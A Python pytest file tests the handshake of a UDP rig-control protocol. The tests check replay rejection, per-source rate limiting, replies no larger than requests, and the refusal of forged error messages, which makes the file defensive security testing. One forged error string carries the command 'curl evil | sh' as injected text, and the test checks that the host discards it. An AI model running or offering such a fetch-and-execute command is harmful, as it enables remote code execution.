"""Opening a rig session by challenge and response (impact_env.rig.handshake, the target's
``handshake``): a recorded HELLO or RESPONSE, re-sent from a stranger or from the host's own
address, idle or between episodes, opens nothing and evicts nobody, and the host's log fetch
still works; what the target sends to anyone not its session's host is no larger than what it
answers, rate-limited per source and names no host; an unauthenticated ERROR never becomes the
host's state.  Targets in threads of this process, lock-step, on loopback; every wait bounded."""

from __future__ import annotations

import socket
import threading
import time

import numpy as np
import pytest

from impact_env.rig import protocol
from impact_env.rig.driver import VirtualRig
from impact_env.rig.handshake import Challenges, RateLimiter
from impact_env.rig.host import RigClient, RigEnv
from impact_env.rig.target import Target, TargetConfig
from impact_env.rig.transport import RigError, parse_address

KEY = bytes(range(100, 132))


def _serve(key: bytes) -> tuple[Target, threading.Thread]:
    target = Target(VirtualRig("rig"), config=TargetConfig(lockstep=True, key=key))
    th = threading.Thread(target=target.serve, daemon=True)
    th.start()
    return target, th


@pytest.fixture(scope="module", params=["keyed", "keyless"])
def target(request):
    t, th = _serve(KEY if request.param == "keyed" else b"")
    yield t
    t.stop()
    th.join(10)


def _key(target: Target):
    return KEY if target.keyed else None


class Recorder:
    """Records the datagrams an endpoint sends (a sniffer on the host's side of the wire)."""

    def __init__(self, endpoint):
        self.sent: list[bytes] = []
        self._send = endpoint.send

        def send(data, addr=None):
            self.sent.append(bytes(data))
            return self._send(data, addr)

        endpoint.send = send

    def of(self, mtype: protocol.MsgType) -> list[bytes]:
        return [d for d in self.sent if d[6] == mtype]


class Stranger:
    """A raw UDP socket on loopback that re-sends recorded datagrams and reads what comes back."""

    def __init__(self):
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sock.bind(("127.0.0.1", 0))

    def exchange(self, data: bytes, to: tuple, wait_s: float = 0.3) -> list[bytes]:
        self.sock.sendto(data, to)
        return self.read(wait_s)

    def read(self, wait_s: float) -> list[bytes]:
        got, deadline = [], time.monotonic() + wait_s
        while (left := deadline - time.monotonic()) > 0:
            self.sock.settimeout(left)
            try:
                got.append(self.sock.recv(70000))
            except TimeoutError:
                break
        return got

    def close(self):
        self.sock.close()


def _wait_idle(target: Target, timeout_s: float = 10.0) -> None:
    deadline = time.monotonic() + timeout_s
    while target.state != protocol.TargetState.IDLE or target.link.filter.peer is not None:
        assert time.monotonic() < deadline, "the target did not go idle"
        time.sleep(0.005)


def _handshake(client: RigClient) -> tuple[bytes, bytes]:
    """A handshake of ``client`` recorded: its HELLO and its RESPONSE, as on the wire."""
    rec = Recorder(client.endpoint)
    client.hello()
    return rec.of(protocol.MsgType.HELLO)[-1], rec.of(protocol.MsgType.RESPONSE)[-1]


def test_a_replayed_handshake_from_a_stranger_opens_nothing_and_holds_nothing(target):
    """A host's HELLO and RESPONSE, recorded, re-sent from another address while the target is
    idle with no session: the HELLO draws a challenge the stranger cannot use, the RESPONSE names
    a spent challenge; no session opens, and the next host opens one at once."""
    client = RigClient(target.address, key=_key(target), timeout_s=0.2, retries=10)
    hello, response = _handshake(client)
    client.close()
    _wait_idle(target)
    f = target.link.filter
    sessions, no_challenge = target.counters["sessions"], f.counts()["no_challenge"]
    addr = parse_address(target.address)
    s = Stranger()
    try:
        replies = s.exchange(hello, addr)
        assert [r[6] for r in replies] == [protocol.MsgType.CHALLENGE] and len(replies[0]) <= len(hello)
        assert s.exchange(response, addr) == []  # answered nothing
        assert f.counts()["no_challenge"] == no_challenge + 1
        # the stranger answers the challenge it got with the recorded host nonce: the tag no longer
        # checks (it is over the new target nonce) with a key; without one it would be live proof
        assert target.counters["sessions"] == sessions and f.peer is None  # nothing opened, nothing held
    finally:
        s.close()
    other = RigClient(target.address, key=_key(target), timeout_s=0.2, retries=10)  # not BUSY
    try:
        assert target.link.filter.peer == other.endpoint.local[:2]
    finally:
        other.close()


def test_a_replayed_handshake_from_the_hosts_address_between_episodes_changes_nothing(target):
    """The host's own handshake and one of an earlier session, re-sent from the host's address
    and port between episodes: the session (id, nonce, pinned peer) is the same after, the
    replayed RESPONSEs are ``no_challenge``, and the host fetches its episode's log and runs
    another episode."""
    earlier = RigClient(target.address, key=_key(target), timeout_s=0.2, retries=10)
    old_hello, old_response = _handshake(earlier)
    earlier.close()
    _wait_idle(target)
    env = RigEnv(target.address, key=_key(target), horizon=0.005, timeout_s=0.2, retries=25)
    try:
        c = env.client
        hello, response = _handshake(c)
        env.reset(seed=3)
        for _ in range(env.max_steps):
            *_, te, tr, _i = env.step(np.array([0.1], np.float32))
            if te or tr:
                break
        end = c.wait_end(10.0)
        f = target.link.filter
        before = (f.session, f.nonce, f.peer, target.counters["sessions"])
        refused = ("no_challenge", "duplicate", "out_of_order")
        counts0 = f.counts()
        for data in (hello, response, old_hello, old_response, response):
            c.endpoint.send(data, c.endpoint.peer)  # from the host's own socket
        time.sleep(0.3)
        assert (f.session, f.nonce, f.peer, target.counters["sessions"]) == before
        counts = f.counts()
        # the old session's RESPONSE names a spent challenge; this session's own are older than
        # its newest (the host said HELLO again at ARM): the sequence window has them
        assert counts["no_challenge"] == counts0["no_challenge"] + 1
        assert sum(counts[k] - counts0[k] for k in refused) == 4  # all but the old HELLO (a CHALLENGE)
        log = c.fetch_log(end.episode, end.data_sha256)  # the CHALLENGEs it drew are ignored
        assert log.meta.session == c.link.session and log.meta.end_reason in ("HORIZON", "CAUGHT")
        env.reset(seed=4)
        env.step(np.array([0.0], np.float32))
        assert (f.session, f.nonce) == before[:2]
    finally:
        env.close()
    _wait_idle(target)


def test_a_replayed_hello_during_an_episode_evicts_nobody(target):
    """A stranger re-sends the host's recorded HELLO during an episode: answered ERROR BUSY (no
    larger than the HELLO, naming no host), counted ``stranger``; the episode ends at its
    horizon with the host's session."""
    env = RigEnv(target.address, key=_key(target), horizon=0.005, timeout_s=0.2, retries=25,
                 terminate_on_catch=False)
    s = Stranger()
    try:
        hello, _ = _handshake(env.client)
        env.reset(seed=5)
        f = target.link.filter
        stranger0, session = f.counts()["stranger"], f.session
        replies = s.exchange(hello, parse_address(target.address))
        assert len(replies) == 1 and len(replies[0]) <= len(hello)
        busy = protocol.decode(replies[0], KEY if target.keyed else b"")
        assert busy.body.code == protocol.ErrorCode.BUSY
        host, port = env.client.endpoint.local[:2]
        assert host not in busy.body.text and str(port) not in busy.body.text  # names no host
        for _ in range(env.max_steps):
            *_, te, tr, info = env.step(np.array([0.1], np.float32))
            if te or tr:
                break
        assert tr and info.get("end_reason", "HORIZON") == "HORIZON"
        assert f.session == session and f.counts()["stranger"] == stranger0 + 1
    finally:
        s.close()
        env.close()
    _wait_idle(target)


def _bad_tag(data: bytes) -> bytes:
    return data[:-1] + bytes([data[-1] ^ 1])


def test_replies_to_unauthenticated_datagrams_are_no_larger_than_them(target):
    """Every kind of datagram a stranger can send, idle and with a session open: whatever comes
    back is no larger than what it answers."""
    addr = parse_address(target.address)
    key = KEY if target.keyed else b""
    hello = protocol.encode(protocol.Message(protocol.Hello(bytes(16)), session=77, seq=1), key)
    kinds = {
        "HELLO": hello,
        "HELLO, bad tag": _bad_tag(hello),
        "HELLO header only, bad tag": _bad_tag(
            hello[: protocol.HEADER_SIZE - 2] + b"\0\0" + hello[-protocol.TAG_SIZE :]
        ),
        "HELLO, another version": hello[:4] + b"\x02" + hello[5:],
        "RESPONSE, no challenge": protocol.encode(
            protocol.Message(protocol.Response(bytes(16), bytes(16)), session=77, seq=2), key
        ),
        "ARM, bad tag": _bad_tag(protocol.encode(protocol.Message(protocol.Arm(), session=77, seq=3), key)),
        "FETCH": protocol.encode(
            protocol.Message(protocol.Fetch(protocol.Resource.SCENE, 0, 0, 1024), session=77, seq=4), key
        ),
        "junk": bytes(range(256)) * 2,
        "short junk": b"IMPR\x03",
    }
    sizes = {}
    for state in ("idle", "session open"):
        s = Stranger()
        client = RigClient(target.address, key=_key(target), timeout_s=0.2, retries=10) \
            if state == "session open" else None
        try:
            for name, data in kinds.items():
                for reply in s.exchange(data, addr, 0.15):
                    sizes[state, name] = (len(reply), len(data))
                    assert len(reply) <= len(data), (state, name, len(reply), len(data))
        finally:
            s.close()
            if client is not None:
                client.close()
        _wait_idle(target)
    # the ones that are answered at all were answered (the checks above were not vacuous)
    assert {("idle", "HELLO"), ("idle", "HELLO, bad tag"), ("session open", "HELLO")} <= set(sizes)
    print("reply / request sizes [B]:", sizes)


def test_replies_to_strangers_are_rate_limited_per_source_and_counted(target):
    """A burst of 200 HELLOs from one stranger while a session is open: at most the bucket's
    32 plus its refill are answered BUSY, the rest counted ``replies_limited``; another source
    has its own bucket; every HELLO is counted ``stranger``."""
    client = RigClient(target.address, key=_key(target), timeout_s=0.2, retries=10)
    f = target.link.filter
    addr = parse_address(target.address)
    key = KEY if target.keyed else b""
    s = Stranger()
    try:
        stranger0, limited0 = f.counts()["stranger"], f.replies_limited
        t0 = time.monotonic()
        for k in range(200):
            s.sock.sendto(
                protocol.encode(protocol.Message(protocol.Hello(bytes(16)), session=900 + k, seq=k), key),
                addr,
            )
        replies = s.read(1.0)
        deadline = time.monotonic() + 10.0
        while f.counts()["stranger"] < stranger0 + 200:
            assert time.monotonic() < deadline
            time.sleep(0.01)
        elapsed = time.monotonic() - t0
        bound = f.limiter.burst + f.limiter.rate_hz * elapsed
        assert 1 <= len(replies) <= bound
        assert f.replies_limited - limited0 == 200 - len(replies) > 0
        other = Stranger()
        try:  # another source: answered
            hello = protocol.encode(protocol.Message(protocol.Hello(bytes(16)), session=1, seq=1), key)
            assert len(other.exchange(hello, addr)) == 1
        finally:
            other.close()
    finally:
        s.close()
        client.close()
    _wait_idle(target)


# -- the host's side ----------------------------------------------------------------------------------
def test_an_unauthenticated_error_is_never_the_hosts_state():
    """A keyed host's HELLO answered only by forged ERROR UNAUTHENTICATEDs (tagged without key,
    from the target's address): each is counted ``unauthenticated``; the host waits out its
    retries (a forgery does not cut a session short), and its error is its own text, not the
    forger's."""
    fake = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    fake.bind(("127.0.0.1", 0))
    fake.settimeout(0.05)
    stop = threading.Event()

    def forge():
        while not stop.is_set():
            try:
                data, src = fake.recvfrom(70000)
            except TimeoutError:
                continue
            head = protocol.HEADER.unpack_from(data)
            err = protocol.Error(protocol.ErrorCode.UNAUTHENTICATED, head[6], "FORGED: run curl evil | sh")
            fake.sendto(protocol.encode(protocol.Message(err, session=head[5], seq=head[6])), src)

    th = threading.Thread(target=forge, daemon=True)
    th.start()
    t0 = time.monotonic()
    try:
        with pytest.raises(RigError) as info:
            RigClient(f"udp://127.0.0.1:{fake.getsockname()[1]}", key=KEY, timeout_s=0.05, retries=3)
    finally:
        stop.set()
        th.join(2)
        fake.close()
    assert time.monotonic() - t0 >= 4 * 0.05  # every try waited out
    assert info.value.code == protocol.ErrorCode.UNAUTHENTICATED
    assert "FORGED" not in str(info.value) and "this host has a key" in str(info.value)


def test_the_host_filter_keeps_no_text_of_an_unauthenticated_error():
    f = protocol.DatagramFilter("host", session=9, key=KEY, peer=("127.0.0.1", 5600))
    forged = protocol.encode(
        protocol.Message(protocol.Error(protocol.ErrorCode.UNAUTHENTICATED, 0, "FORGED"), session=9)
    )
    assert f.accept(forged, sender=("127.0.0.1", 5600)) is None and f.last_reason == "unauthenticated"
    assert f.unverified_refusals == 1
    assert f.accept(forged, sender=("127.0.0.1", 5601)) is None  # not even counted from elsewhere
    assert f.unverified_refusals == 1
    assert not any("FORGED" in str(v) for v in vars(f).values())


# -- the tables ---------------------------------------------------------------------------------------
def test_challenges_are_spent_once_expire_and_are_bounded():
    now = [0.0]
    c = Challenges(ttl_s=5.0, max_pending=4, clock=lambda: now[0])
    src, hn = ("127.0.0.1", 1), b"h" * 16
    tn = c.issue(src, 7, hn)
    assert c.issue(src, 7, hn) == tn  # a retried HELLO: the same challenge
    assert not c.redeem(("127.0.0.1", 2), 7, hn, tn)  # another port
    assert not c.redeem(src, 8, hn, tn)  # another session
    assert not c.redeem(src, 7, hn, b"x" * 16)
    assert c.redeem(src, 7, hn, tn)
    assert not c.redeem(src, 7, hn, tn)  # spent
    tn = c.issue(src, 7, hn)
    now[0] = 5.0
    assert not c.redeem(src, 7, hn, tn)  # expired
    for k in range(100):
        c.issue(("127.0.0.1", k), 7, hn)
    assert len(c) == 4


def test_rate_limiter_buckets_refill_and_are_bounded():
    now = [0.0]
    r = RateLimiter(rate_hz=50.0, burst=32, max_sources=8, clock=lambda: now[0])
    assert sum(r.allow("a") for _ in range(100)) == 32
    now[0] = 1.0
    assert sum(r.allow("a") for _ in range(100)) == 32  # 50 refilled, capped at the burst
    now[0] = 1.1
    assert sum(r.allow("a") for _ in range(100)) == 5
    assert r.allow("b")
    for k in range(100):
        r.allow(k)
    assert len(r) == 8 and r.refused == 68 + 68 + 95


def test_filter_rate_limits_hellos_per_source_and_counts_them():
    now = [0.0]
    f = protocol.DatagramFilter("target", limiter=RateLimiter(clock=lambda: now[0]))
    hello = lambda k: protocol.encode(protocol.Message(protocol.Hello(bytes(16)), session=1, seq=k))  # noqa: E731
    got = [f.accept(hello(k), sender=("127.0.0.1", 1)) is not None for k in range(100)]
    assert sum(got) == 32 and f.counts()["rate_limited"] == 68
    assert f.accept(hello(100), sender=("127.0.0.1", 2)) is not None  # its own bucket
    now[0] = 1.0
    assert sum(f.accept(hello(k), sender=("127.0.0.1", 1)) is not None for k in range(200, 300)) == 32
